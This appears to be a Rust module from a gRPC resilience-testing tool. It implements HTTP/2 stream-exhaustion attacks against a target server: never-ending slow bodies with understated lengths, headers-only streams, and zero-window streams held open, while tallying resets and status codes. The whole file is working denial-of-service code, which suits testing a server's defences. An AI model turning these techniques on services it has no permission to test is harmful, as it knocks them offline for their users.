//! The attacks of HTTP/2 streams: requests that never end, headers alone, and whole requests
//! on streams whose flow-control window is 0.

use std::sync::Arc;

use prost::bytes::Bytes;
use tokio::net::TcpStream;
use tokio::time::Instant;
use tonic::codegen::http;

use super::{Attack, HostileArgs, PATH, Shared, attack_request, grpc_message, pacing, tally};

/// Keeps `args.streams` streams open on one HTTP/2 connection, as the attack has them.
pub(super) async fn streams(
    args: &HostileArgs,
    tcp: TcpStream,
    report: &Shared,
    until: Instant,
) -> anyhow::Result<()> {
    let window = if args.attack == Attack::ZeroWindow {
        0
    } else {
        65_535
    };
    let (client, connection) = h2::client::Builder::new()
        .initial_window_size(window)
        .max_concurrent_reset_streams(usize::MAX)
        .handshake::<_, Bytes>(tcp)
        .await?;
    let mut serving = tokio::spawn(connection);
    let mut held = tokio::task::JoinSet::new();
    // A paced attack spreads its rate over its streams.
    let per_stream = (args.rate > 0).then(|| {
        let streams = u32::try_from(args.streams.max(1)).unwrap_or(u32::MAX);
        (args.rate / streams).max(1)
    });
    for _ in 0..args.streams {
        let (args, report, client) = (args.clone(), Arc::clone(report), client.clone());
        held.spawn(async move {
            let mut pace = per_stream.and_then(pacing);
            while Instant::now() < until {
                if let Some(pace) = &mut pace {
                    pace.tick().await;
                }
                if one_stream(&args, client.clone(), &report, until)
                    .await
                    .is_err()
                {
                    return;
                }
            }
        });
    }
    tokio::select! {
        _ = &mut serving => anyhow::bail!("closed by the server"),
        () = tokio::time::sleep_until(until) => {}
    }
    held.abort_all();
    serving.abort();
    Ok(())
}

/// One stream of the attack, until the server answers or resets it (or `until`).
async fn one_stream(
    args: &HostileArgs,
    client: h2::client::SendRequest<Bytes>,
    report: &Shared,
    until: Instant,
) -> anyhow::Result<()> {
    let mut client = client.ready().await?;
    let request = http::Request::post(format!("http://{}{PATH}", args.target))
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .body(())?;
    let (answer, mut send) = client.send_request(request, false)?;
    tally(report, |r| r.streams_opened += 1);
    match args.attack {
        Attack::SlowBody => {
            let mut body = vec![0u8; 5 + args.bytes];
            let declared = match args.declares {
                Some(declared) => declared,
                None => u32::try_from(args.bytes + 1)?,
            };
            body[1..5].copy_from_slice(&declared.to_be_bytes());
            send.send_data(Bytes::from(body), false)?;
        }
        Attack::ZeroWindow => send.send_data(grpc_message(&attack_request(args)), true)?,
        _ => {}
    }
    let answered = tokio::select! {
        answered = answer => answered,
        () = tokio::time::sleep_until(until) => return Ok(()),
    };
    let code = match answered {
        Ok(response) if args.attack == Attack::ZeroWindow => {
            // Headers can come, the message cannot: hold the stream as a client that never
            // reads would, until the server gives up on it.
            let mut body = response.into_body();
            tokio::select! {
                _ = body.data() => tally(report, |r| r.streams_reset += 1),
                () = tokio::time::sleep_until(until) => {}
            }
            return Ok(());
        }
        Ok(response) => grpc_status(response).await,
        Err(error) if error.is_reset() => {
            tally(report, |r| r.streams_reset += 1);
            return Ok(());
        }
        Err(error) => return Err(error.into()),
    };
    tally(report, |r| *r.answers.entry(code).or_default() += 1);
    drop(send);
    Ok(())
}

/// The gRPC status of an answer: in its headers (trailers-only) or its trailers.
async fn grpc_status(response: http::Response<h2::RecvStream>) -> String {
    if let Some(code) = response.headers().get("grpc-status") {
        return code.to_str().unwrap_or("?").to_owned();
    }
    let mut body = response.into_body();
    while let Some(data) = body.data().await {
        if let Ok(data) = data {
            let _ = body.flow_control().release_capacity(data.len());
        }
    }
    match body.trailers().await {
        Ok(Some(trailers)) => trailers
            .get("grpc-status")
            .and_then(|code| code.to_str().ok())
            .unwrap_or("?")
            .to_owned(),
        _ => "?".to_owned(),
    }
}
